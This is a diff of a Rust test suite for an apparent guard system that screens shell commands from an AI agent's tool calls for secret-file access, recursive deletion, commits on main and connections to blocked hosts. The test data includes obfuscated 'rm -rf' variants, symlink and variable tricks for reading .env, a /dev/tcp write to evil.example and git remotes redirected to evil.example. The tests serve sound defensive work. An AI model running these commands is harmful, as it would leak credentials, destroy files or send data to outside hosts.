@@ -39,6 +39,13 @@ impl Place {
         fs::write(path, text).unwrap();
     }
 
+    fn link(&self, at: &str, to: &str) {
+        #[cfg(unix)]
+        std::os::unix::fs::symlink(to, self.folder.path().join(at)).unwrap();
+        #[cfg(not(unix))]
+        self.write(at, to);
+    }
+
     fn project(&self) -> std::path::PathBuf {
         self.folder.path().join("p")
     }
@@ -81,14 +88,6 @@ impl Place {
     fn call(&self, rule: &str, tool: &str, input: &Value) -> bool {
         self.asks(rule, tool, input, &self.project()).unwrap()
     }
-
-    fn all(&self, rule: &str, expected: bool, lines: &[&str]) {
-        let wrong: Vec<&&str> = lines
-            .iter()
-            .filter(|line| self.line(rule, line) != expected)
-            .collect();
-        assert!(wrong.is_empty(), "{rule} is not {expected} for {wrong:#?}");
-    }
 }
 
 #[test]
@@ -102,6 +101,12 @@ fn each_line_of_the_list_is_judged_as_it_says() {
                 rule.1,
                 "{what}: {rule:?}: {line}"
             );
+        } else if let Some(file) = row.strip_prefix("  write ") {
+            let (file, text) = file.split_once(' ').unwrap_or((file, ""));
+            place.write(file, &text.replace('⏎', "\n"));
+        } else if let Some(link) = row.strip_prefix("  link ") {
+            let (at, to) = link.split_once(' ').unwrap();
+            place.link(at, to);
         } else if let Some(head) = row.strip_prefix("  ") {
             let (name, holds) = head.rsplit_once(' ').unwrap();
             rule = (name, holds == "holds");
@@ -166,199 +171,6 @@ fn every_text_of_a_call_that_can_be_a_path_is_one() {
 }
 
 #[test]
-fn a_formatter_takes_hidden_files_of_its_endings_and_no_others() {
-    let place = Place::new();
-    place.write("p/.github/workflows/ci.yml", "");
-    for line in ["prettier --write .", "eslint --fix ."] {
-        assert!(!place.line("secret-files", line), "{line}");
-        let input = json!({"command": line});
-        let writes = "writes('**/.github/workflows/**')";
-        assert!(
-            place
-                .decides(writes, "Bash", &input, &place.project())
-                .unwrap(),
-            "{line}"
-        );
-    }
-    place.write("p/certs/key.pem", "");
-    place.write("p/node_modules/a/.env", "");
-    place.all(
-        "secret-files",
-        false,
-        &[
-            "prettier --check *",
-            "black .",
-            "isort .",
-            "gofmt -l .",
-            "eslint . --ext .ts,.tsx",
-            "black --exclude .venv .",
-            "npm ci",
-            "pnpm install",
-            "git bisect run npm test",
-        ],
-    );
-    place.all(
-        "secret-files",
-        true,
-        &[
-            "prettier --write .env",
-            "prettier --check .e*",
-            "prettier --check certs/*.pem",
-            "black --include '\\.env$' .",
-            "eslint --ext .pem .",
-            "typos .",
-            "trivy fs .",
-            "grep -r KEY node_modules",
-            "cp -r node_modules /tmp/x",
-            "git bisect run cat .env",
-            "git submodule foreach 'cat ../.env'",
-        ],
-    );
-}
-
-#[cfg(unix)]
-#[test]
-fn an_exception_holds_by_where_links_lead_too() {
-    let place = Place::new();
-    std::os::unix::fs::symlink("src", place.project().join("build")).unwrap();
-    place.all("no-rm-rf", true, &["rm -rf build/a", "rm -rf build/*"]);
-    std::os::unix::fs::symlink(".env", place.project().join(".env.example")).unwrap();
-    place.all("secret-files", true, &["cat .env.example"]);
-}
-
-#[cfg(unix)]
-#[test]
-fn a_link_behind_a_change_of_folder_is_followed() {
-    let place = Place::new();
-    let link =
-        |to: &str, at: &str| std::os::unix::fs::symlink(to, place.project().join(at)).unwrap();
-    link("../.env", "src/s");
-    link(".env", "lnk");
-    place.all(
-        "secret-files",
-        true,
-        &[
-            "cd src && cat s",
-            "(cd src; head -1 < s)",
-            "echo y > lnk",
-            "cat src/s",
-            "cat src/*",
-        ],
-    );
-    place.all(
-        "secret-files",
-        false,
-        &["cd src && cat a.rs", "echo y > a.txt"],
-    );
-}
-
-#[test]
-fn what_is_known_of_a_word_says_which_file_it_cannot_be() {
-    let place = Place::new();
-    place.write("p/logs/x.md", "");
-    place.all(
-        "secret-files",
-        false,
-        &[
-            "for f in src/*.rs; do wc -l $f; done",
-            "for f in src/*.rs; do wc -l \"$f\"; done",
-            "mv *.log logs/",
-            "x=a.txt; cp a.txt \"${x%.txt}.md\"",
-            "for f in src/*.txt; do cp $f \"${f%.txt}.md\"; done",
-            "for f in logs/*; do cat \"${f##*/}.md\"; done",
-        ],
-    );
-    place.all(
-        "secret-files",
-        true,
-        &[
-            "for f in .*; do cat $f; done",
-            "for f in .*; do cat \"${f%.txt}\"; done",
-            "for f in .e*.x; do cat \"${f%.x}\"; done",
-            "for f in .env.*; do cat \"${f%.*}\"; done",
-            "cat $f",
-            "cat src/$f",
-            "touch 'src/a .env b.rs'; for f in src/*.rs; do cat $f; done",
-            "ls -A | xargs -I{} cat {}",
-            "echo .env | xargs -I{} cat {}",
-        ],
-    );
-}
-
-#[test]
-fn a_commit_counts_on_the_branch_where_it_lands() {
-    let place = Place::new();
-    place.write("wt/.git/HEAD", "ref: refs/heads/main\n");
-    place.write("other/.git/HEAD", "ref: refs/heads/topic\n");
-    place.all(
-        "no-commit-on-main",
-        true,
-        &[
-            "git commit -m x",
-            "git merge topic",
-            "git -C ../wt commit -m x",
-            "cd ../wt && git commit",
-        ],
-    );
-    place.write("p/.git/HEAD", "ref: refs/heads/topic\n");
-    place.all(
-        "no-commit-on-main",
-        true,
-        &[
-            "git checkout main && git commit -m x",
-            "git switch main && git commit -m x",
-            "git -C ../wt commit -m x",
-            "cd ../wt && git commit -m x",
-        ],
-    );
-    place.all(
-        "no-commit-on-main",
-        false,
-        &[
-            "git commit -m x",
-            "git commit -m 'main'",
-            "cd ../other && git commit -m x",
-            "git log main",
-            "git commit -m \"$MESSAGE\"",
-            "git -c user.name=x commit -m x",
-        ],
-    );
-}
-
-#[test]
-fn what_a_line_computes_is_read_or_unknown() {
-    let place = Place::new();
-    place.all(
-        "secret-files",
-        true,
-        &[
-            "cat $(echo .env)",
-            "cat .en${Z:-v}",
-            "python3 -c \"open('.env','w')\"",
-            "perl -e 'open F, \".env\"'",
-            "x=.env; cat $x",
-            "cat $UNKNOWN",
-            "cat .env .env.example",
-        ],
-    );
-    place.write("p/.env.example", "KEY=");
-    place.all(
-        "secret-files",
-        false,
-        &[
-            "cat .env.example",
-            "cp .env.example .env.test",
-            "grep -r KEY src",
-        ],
-    );
-    place.all(
-        "no-rm-rf",
-        true,
-        &["rm$IFS-rf${IFS}victim", "r${Z}m -r${Z}f x"],
-    );
-}
-
-#[test]
 fn a_call_of_a_shell_that_names_no_line_as_text_matches_every_guard() {
     let place = Place::new();
     for input in [
@@ -379,36 +191,6 @@ fn a_call_of_a_shell_that_names_no_line_as_text_matches_every_guard() {
         &json!({"command": "rm -rf x"})
     ));
     assert!(place.call("no-rm-rf", "mcp__shell__run_command", &mcp));
-}
-
-#[test]
-fn a_search_that_removes_what_it_finds_falls_on_each_file_below_its_folder() {
-    let place = Place::new();
-    let holds = |when: &str, line: &str| {
-        let data =
-            json!({"cwd": place.project(), "tool_name": "Bash", "tool_input": {"command": line}});
-        let event = Event::new("pre-tool-use", data);
-        let project = place.project();
-        let facts = Facts::new(&event, &project, None);
-        When::read(when).unwrap().decide(&facts).unwrap().holds
-    };
-    for line in ["find . -type f -delete", "find . ! -name x -delete"] {
-        assert!(holds("deletes('**/a.txt')", line), "{line}");
-        assert!(holds("touches('**/.env')", line), "{line}");
-    }
-    assert!(!holds("reads('**/.env')", "find . -name '*.rs'"));
-    // Who writes the settings of git as a file may set any of them.
-    for line in [
-        "echo x >> .git/config",
-        "sed -i s/a/b/ .git/config",
-        "git diff --output=.git/config",
-    ] {
-        assert!(holds("configures('core.hooksPath')", line), "{line}");
-    }
-    assert!(!holds(
-        "configures('core.hooksPath')",
-        "git config user.name me"
-    ));
 }
 
 #[test]
@@ -439,15 +221,6 @@ fn a_line_that_an_agent_carries_out_as_a_patch_writes_the_files_of_the_patch() {
     for line in forms(&patch("a.rs")) {
         assert!(!place.line("secret-files", &line), "{line}");
         assert!(!place.line("no-rm-rf", &line), "{line}");
-    }
-    // What cannot be read may be any file.
-    for line in [
-        "apply_patch \"$X\"",
-        "apply_patch < a.txt",
-        "curl https://x.example | apply_patch",
-        "apply_patch hello",
-    ] {
-        assert!(place.line("secret-files", line), "{line}");
     }
 }
 
@@ -485,33 +258,6 @@ fn a_machine_is_the_same_one_however_a_url_spells_it() {
         "Bash",
         json!({"command": "echo x > /dev/tcp/evil.example./80"})
     ));
-}
-
-#[test]
-fn a_remote_is_the_machine_that_the_settings_of_git_say() {
-    let place = Place::new();
-    place.write(
-        "p/.git/config",
-        "[remote \"origin\"]\n\turl = https://evil.example/r\n[remote \"ok\"]\n\turl = https://good.example/r\n",
-    );
-    let connects = |line: &str| {
-        let input = json!({"command": line});
-        let rule = "connects('evil.example')";
-        place
-            .decides(rule, "Bash", &input, &place.project())
-            .unwrap()
-    };
-    for line in [
-        "git push",
-        "git push origin main",
-        "git fetch",
-        "git remote add z https://evil.example/r && git push z",
-        "git remote set-url ok https://evil.example/r",
-    ] {
-        assert!(connects(line), "{line}");
-    }
-    assert!(!connects("git push ok main"));
-    assert!(!connects("git remote add z https://good.example/r"));
 }
 
 mod slow {
